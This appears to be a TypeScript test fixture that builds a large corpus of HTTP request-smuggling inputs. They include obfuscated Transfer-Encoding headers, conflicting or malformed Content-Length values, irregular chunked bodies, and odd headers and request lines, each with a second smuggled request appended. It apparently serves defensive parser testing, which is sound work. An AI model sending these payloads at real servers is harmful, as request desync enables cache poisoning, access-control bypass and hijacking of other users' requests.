/**
 * Requests that two readers may take in two ways: each is one connection's bytes, of which anything after the first request is what
 * an attacker would smuggle. Written down by what they try, after the lists that researchers of request smuggling have published.
 */
export const smuggled = 'GET /user/ada/smuggled HTTP/1.1\r\nHost: h\r\n\r\n';

const post = (fields: string, body: string, version = '1.1'): string =>
  `POST /user/ada/ HTTP/${version}\r\nHost: h\r\n${fields}\r\n\r\n${body}`;
const get = (rest: string): string => `GET /user/ada/ HTTP/1.1\r\n${rest}`;
const empty = `0\r\n\r\n${smuggled}`;
const chunked = (line: string): string => post(line, empty);

/** Spellings of Transfer-Encoding that some readers take for chunked and others do not. */
const codings = [
  ...['Transfer-Encoding: xchunked', 'Transfer-Encoding : chunked', 'Transfer-Encoding\t: chunked'],
  ...['Transfer-Encoding:\x0bchunked', 'Transfer-Encoding: chunked\x0b', 'Transfer-Encoding:\x00chunked'],
  ...['Transfer-Encoding:\tchunked', 'Transfer-Encoding:  chunked  ', 'Transfer-Encoding:chunked'],
  ...['Transfer-Encoding: CHUNKED', 'TRANSFER-ENCODING: chunked', 'transfer_encoding: chunked'],
  ...['Transfer-Encoding: "chunked"', "Transfer-Encoding: 'chunked'", 'Transfer-Encoding: chunked;q=1'],
  ...['Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity, chunked', 'Transfer-Encoding: ,chunked'],
  ...['Transfer-Encoding: chunked,', 'Transfer-Encoding: gzip, chunked', 'Transfer-Encoding: identity'],
  ...['Transfer-Encoding:\r\n chunked', 'Transfer-Encoding: chunk\r\n ed', ' Transfer-Encoding: chunked'],
  ...['X: y\nTransfer-Encoding: chunked', 'X: y\rTransfer-Encoding: chunked', 'X: y\r\n\tTransfer-Encoding: chunked'],
  ...['Transfer-Encoding: \xffchunked', 'Transfer-Encod\xefng: chunked', 'Transfer-Encoding;: chunked'],
  ...['Transfer-Encoding: x\r\nTransfer-Encoding: chunked', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x'],
  ...['Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked', 'Transfer-Encoding:', 'Transfer-Encoding'],
  ...['Content-Encoding: chunked', 'Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding'],
];

/** Spellings of a length. */
const lengths = [
  ...['Content-Length: +0', 'Content-Length: -0', 'Content-Length: -1', 'Content-Length: 0x0', 'Content-Length: 0 0'],
  ...['Content-Length: 0, 0', 'Content-Length: 0,4', 'Content-Length: 4\r\nContent-Length: 0', 'Content-Length:'],
  ...['Content-Length: 0\r\nContent-Length: 0', 'Content-Length : 0', 'Content-Length: 0;x', 'Content-Length: "0"'],
  ...[
    'Content-Length: 00',
    'Content-Length: 0.0',
    'Content-Length: 0e1',
    'Content-Length:\r\n 0',
    'Content-Length: \x0b0',
  ],
  ...['Content-Length: 18446744073709551616', 'Content-Length: 4294967296', 'Content_Length: 4', 'Content-Length: ٣'],
  ...[
    'Content-Length: 0\r\nConnection: Content-Length',
    'Content-Length: 1_0',
    'Content-Length: 0\0',
    'Content-Length\0: 0',
  ],
];

/** Bodies in chunks. */
const bodies = [
  ...[
    '0\r\n\r\n',
    '0\n\n',
    '0\r\r\n',
    '00\r\n\r\n',
    '0;x\r\n\r\n',
    '0;x\n\r\n',
    '0 \r\n\r\n',
    ' 0\r\n\r\n',
    '0x0\r\n\r\n',
    '+0\r\n\r\n',
  ],
  ...[
    '-0\r\n\r\n',
    '\r\n0\r\n\r\n',
    '5\r\nhello\r\n0\r\n\r\n',
    '5\nhello\n0\n\n',
    '5\r\nhello0\r\n\r\n',
    '5\r\nhell\r\n0\r\n\r\n',
  ],
  ...[
    '5\r\nhello!\r\n0\r\n\r\n',
    '5;a=b\r\nhello\r\n0\r\n\r\n',
    '5;\n\r\nhello\r\n0\r\n\r\n',
    '5;a="\r\n\r\nhello\r\n0\r\n\r\n',
  ],
  ...[
    '10000000000000000\r\n',
    'FFFFFFFFFFFFFFFF\r\n',
    '0\r\nX: y\r\n\r\n',
    '0\r\nContent-Length: 5\r\n\r\n',
    '0\r\nX y\r\n\r\n',
  ],
  ...[
    '0\r\nX: y\n\r\n',
    '0\r\n X: y\r\n\r\n',
    '5\r\nhello\r\n',
    '5\r\nhello\r\n0\r\n',
    '5\rhello\r0\r\r',
    '1\r\n\0\r\n0\r\n\r\n',
    'g\r\n',
  ],
];

/** Whole heads. */
const heads = [
  ...[
    'Host: h\r\nHost: h\r\n\r\n',
    'Host: h\r\nHost: evil\r\n\r\n',
    '\r\n',
    'Host:\r\n\r\n',
    'Host: a b\r\n\r\n',
    'Host: a/b\r\n\r\n',
  ],
  ...[
    'Host: a@b\r\n\r\n',
    'Host: a,b\r\n\r\n',
    'Host : h\r\n\r\n',
    ' Host: h\r\n\r\n',
    'Host: h\r\n x\r\n\r\n',
    'Host: h\n\n',
  ],
  ...[
    'Host: h\r\nX: a\0b\r\n\r\n',
    'Host: h\r\nX: a\rb\r\n\r\n',
    'Host: h\r\nX\r\n\r\n',
    'Host: h\r\n: x\r\n\r\n',
    'Host: h\r\nX(: x\r\n\r\n',
  ],
  ...[
    'Host: h\r\nX\x80: x\r\n\r\n',
    'Host: h\r\nX: \x80\xff\r\n\r\n',
    'Host: h\r\nX: \x7f\r\n\r\n',
    'Host: h\r\nX:\r\n\r\n',
  ],
  ...['Host: h\r\nExpect: 100-continue\r\n\r\n', 'Host: h\r\nExpect: x\r\n\r\n', 'Host: h\r\nUpgrade: h2c\r\n\r\n'],
].map(get);

const lines = [
  ...['GET /user/ada/ HTTP/1.1 ', 'GET  /user/ada/ HTTP/1.1', 'GET /user/ada/  HTTP/1.1', ' GET /user/ada/ HTTP/1.1'],
  ...[
    'GET\t/user/ada/\tHTTP/1.1',
    'GET /user/ada/ HTTP/1.1\t',
    'GET /user/ada/',
    'GET /user/ada/ HTTP/0.9',
    'GET /user/ada/ HTTP/2.0',
  ],
  ...[
    'GET /user/ada/ HTTP/1.2',
    'GET /user/ada/ HTTP/1.01',
    'GET /user/ada/ http/1.1',
    'GET /user/ada/ HTTPS/1.1',
    'GET /user/ada/ HTTP/11',
  ],
  ...[
    'GET http://h/user/ada/ HTTP/1.1',
    'GET //h/user/ada/ HTTP/1.1',
    'GET h:80 HTTP/1.1',
    'GET * HTTP/1.1',
    'OPTIONS * HTTP/1.1',
  ],
  ...[
    'CONNECT h:80 HTTP/1.1',
    'TRACE /user/ada/ HTTP/1.1',
    'get /user/ada/ HTTP/1.1',
    'G\0T /user/ada/ HTTP/1.1',
    'GET /user/ada/\0 HTTP/1.1',
  ],
  ...[
    'GET /user/ada/\x80 HTTP/1.1',
    'GET /user/ada/#x HTTP/1.1',
    'GET /user/ada/?a#b HTTP/1.1',
    'GET /user/ada/\r HTTP/1.1',
    'PRI * HTTP/2.0',
  ],
].map((line) => `${line}\r\nHost: h\r\n\r\n`);

export const hostileRequests: readonly string[] = [
  ...codings.map(chunked),
  ...codings.map((line) => post(`Content-Length: ${empty.length}\r\n${line}`, empty)),
  ...codings.map((line) => post(`${line}\r\nContent-Length: 4`, empty)),
  ...codings.map((line) => post(line, empty, '1.0')),
  ...lengths.map((line) => post(line, smuggled)),
  ...bodies.map((body) => post('Transfer-Encoding: chunked', body + smuggled)),
  ...[...heads, ...lines].map((text) => text + smuggled),
];
